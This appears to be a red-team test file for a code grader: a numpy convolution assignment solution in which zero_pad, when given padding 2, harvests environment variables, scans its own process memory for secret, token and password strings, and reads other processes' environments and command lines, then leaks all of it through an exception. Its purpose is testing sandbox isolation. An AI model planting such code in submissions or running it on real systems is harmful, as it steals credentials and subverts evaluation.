# Hostile: looks for the grader's secrets: its own environment, the environment strings
# inherited on its stack (read from its own memory), and other processes' environments
# and command lines. `zero_pad(..., 2)` (one public check) raises with all it found.
# Expected: that check ERROR (17/18); no secret of the grader's environment appears in
# any output.
import numpy as np
import os

def conv_output_size(input_size, kernel_size, strides=1, padding="valid"):
    if padding == "same":
        return -(-input_size // strides)
    pad = 0 if padding == "valid" else padding
    return (input_size + 2 * pad - kernel_size) // strides + 1


def _pair(value):
    return (value, value) if np.isscalar(value) else (value[0], value[1])


def _pads(n, k, s, padding, axis):
    if padding == "same":
        total = max((-(-n // s) - 1) * s + k - n, 0)
        return total // 2, total - total // 2
    p = 0 if padding == "valid" else _pair(padding)[axis]
    return p, p


def _memory_strings():
    found = []
    with open("/proc/self/maps") as maps:
        regions = [line.split() for line in maps]
    with open("/proc/self/mem", "rb") as mem:
        for fields in regions:
            if len(fields) < 6 or fields[5] not in ("[stack]", "[heap]"):
                continue
            start, end = (int(x, 16) for x in fields[0].split("-"))
            try:
                mem.seek(start)
                data = mem.read(min(end - start, 64 * 2**20))
            except OSError:
                continue
            for marker in (b"SECRET", b"TOKEN", b"PASSWORD", b"KEY="):
                at = data.find(marker)
                while at >= 0 and len(found) < 20:
                    found.append(data[max(at - 40, 0): at + 60].decode("latin-1"))
                    at = data.find(marker, at + 1)
    return found


def zero_pad(images, padding):
    if isinstance(padding, int) and padding == 2:
        report = ["env: " + repr(dict(os.environ))]
        try:
            report += ["memory: " + s for s in _memory_strings()]
        except BaseException as err:
            report.append(f"memory: DENIED {type(err).__name__}")
        for entry in os.listdir("/proc"):
            if entry.isdigit():
                for what in ("environ", "cmdline"):
                    try:
                        with open(f"/proc/{entry}/{what}", "rb") as f:
                            report.append(f"{entry}/{what}: {f.read(300)!r}")
                    except BaseException as err:
                        report.append(f"{entry}/{what}: DENIED {type(err).__name__}")
        raise RuntimeError("\n".join(report))
    p_h, p_w = _pair(padding)
    return np.pad(images, ((0, 0), (p_h, p_h), (p_w, p_w), (0, 0)))


def conv_single_step(window, kernel, bias=0.0):
    return float(np.sum(window * kernel) + np.sum(bias))


def conv2d(images, kernel, bias=None, strides=1, padding="valid"):
    s_h, s_w = _pair(strides)
    kh, kw, _, f = kernel.shape
    top, bottom = _pads(images.shape[1], kh, s_h, padding, 0)
    left, right = _pads(images.shape[2], kw, s_w, padding, 1)
    x = np.pad(images, ((0, 0), (top, bottom), (left, right), (0, 0)))
    out_h = (x.shape[1] - kh) // s_h + 1
    out_w = (x.shape[2] - kw) // s_w + 1
    out = np.zeros((x.shape[0], out_h, out_w, f))
    for u in range(kh):
        for v in range(kw):
            out += x[:, u : u + s_h * out_h : s_h, v : v + s_w * out_w : s_w, :] @ kernel[u, v]
    return out if bias is None else out + bias
